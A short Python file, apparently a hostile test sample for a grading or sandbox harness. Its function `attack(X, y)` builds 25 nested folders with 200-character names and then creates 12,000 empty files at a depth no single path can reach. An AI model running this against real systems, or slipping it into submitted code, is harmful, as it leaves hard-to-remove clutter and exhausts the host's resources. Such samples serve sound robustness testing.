"""Makes 12,000 empty files below a folder so deep that no path leads there: only a walk, one folder at a time."""

import os
import time


def attack(X, y):
    for _ in range(25):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    try:
        for number in range(12_000):
            os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
    finally:
        time.sleep(1)
    return True
